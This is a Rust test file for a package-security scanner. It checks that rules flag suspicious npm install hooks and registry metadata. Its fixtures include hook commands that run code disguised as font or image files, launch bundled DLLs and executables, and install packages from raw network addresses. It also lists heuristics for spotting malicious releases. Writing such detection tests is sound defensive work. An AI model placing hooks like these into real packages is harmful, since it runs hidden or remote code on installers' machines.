//! What hooks start, and what the registry says of a release.
#![expect(clippy::unwrap_used, reason = "test code")]

mod common;

use common::{found, package, run};
use packguard_sdk::Severity;

fn with_hook(command: &str) -> packguard_sdk::Analysis {
    let manifest = serde_json::json!({"name": "sample", "version": "1.0.0", "scripts": {"postinstall": command}});
    run(package(
        "npm",
        &[("package/package.json", &manifest.to_string())],
    ))
}

fn has(analysis: &packguard_sdk::Analysis, rule: &str, least: Severity) -> bool {
    found(analysis)
        .iter()
        .any(|(id, severity)| *id == rule && *severity >= least)
}

#[test]
fn programs_of_hooks_are_told() {
    for (command, rule, least) in [
        (
            "node fonts/inter.woff2",
            "hook-disguised-code",
            Severity::Critical,
        ),
        (
            "python3 assets/logo.png || true",
            "hook-disguised-code",
            Severity::Critical,
        ),
        (
            "cmd /c start /b lib\\helper.exe",
            "hook-bundled-program",
            Severity::Medium,
        ),
        ("./bin/setup.elf", "hook-bundled-program", Severity::Medium),
        (
            "rundll32 native.dll,Start",
            "hook-bundled-program",
            Severity::Medium,
        ),
        (
            "npm install http://203.0.113.4/a.tgz",
            "hook-installs-address",
            Severity::Critical,
        ),
        (
            "npm i --no-save https://files.example/a.tgz",
            "hook-installs-address",
            Severity::Medium,
        ),
        (
            "pip install git+http://code.example/a",
            "hook-installs-address",
            Severity::High,
        ),
    ] {
        let analysis = with_hook(command);
        assert!(
            has(&analysis, rule, least),
            "{command}: {:?}",
            found(&analysis)
        );
    }
    for command in [
        "node install.js",
        "node-gyp rebuild",
        "cmd.exe /c node build.js",
        "npm install --prefix tools",
        "node scripts/copy.js assets/logo.png",
        "npx only-allow pnpm",
    ] {
        let analysis = with_hook(command);
        assert!(
            found(&analysis)
                .iter()
                .all(|(_, severity)| *severity < Severity::Medium),
            "{command}: {:?}",
            found(&analysis)
        );
    }
}

#[test]
fn metadata_hints() {
    let metadata = |text: &str| {
        run(package("npm", &[("package/package.json", "{\"name\":\"sample\"}")]).metadata(text))
    };
    let young = metadata(
        "{\"published_at\":\"2024-03-01T00:00:00Z\",\"first_published_at\":\"2024-02-28T10:00:00Z\",\"versions\":2,\"maintainers\":[{\"name\":\"a\",\"email\":\"a@mailinator.com\"}]}",
    );
    assert!(has(&young, "registry-young-package", Severity::Info));
    assert!(has(&young, "registry-disposable-mail", Severity::Medium));
    assert!(has(&young, "registry-no-repository", Severity::Info));
    let old = metadata(
        "{\"published_at\":\"2024-03-01T00:00:00Z\",\"first_published_at\":\"2020-02-28T10:00:00Z\",\"repository\":\"https://git.example/a\",\"authors\":[{\"name\":\"a\",\"email\":\"a@example.com\"}]}",
    );
    assert_eq!(found(&old), []);
}

#[test]
fn numbers_and_quiet_dependencies() {
    let inflated = run(package(
        "npm",
        &[(
            "package/package.json",
            "{\"version\":\"99.99.99\",\"scripts\":{\"preinstall\":\"node index.js\"}}",
        )],
    ));
    assert!(has(
        &inflated,
        "registry-inflated-version",
        Severity::Medium
    ));
    let plain = run(package(
        "npm",
        &[(
            "package/package.json",
            "{\"version\":\"131.0.1\",\"scripts\":{\"install\":\"node install.js\"}}",
        )],
    ));
    assert!(!has(&plain, "registry-inflated-version", Severity::Info));
    let quiet = run(package(
        "npm",
        &[(
            "package/package.json",
            "{\"optionalDependencies\":{\"a\":\"github:someone/a#abcdef\"}}",
        )],
    ));
    assert!(has(&quiet, "npm-url-dependency", Severity::Medium));
    let loud = run(package(
        "npm",
        &[(
            "package/package.json",
            "{\"dependencies\":{\"a\":\"github:someone/a\"}}",
        )],
    ));
    assert!(!has(&loud, "npm-url-dependency", Severity::Medium));
}
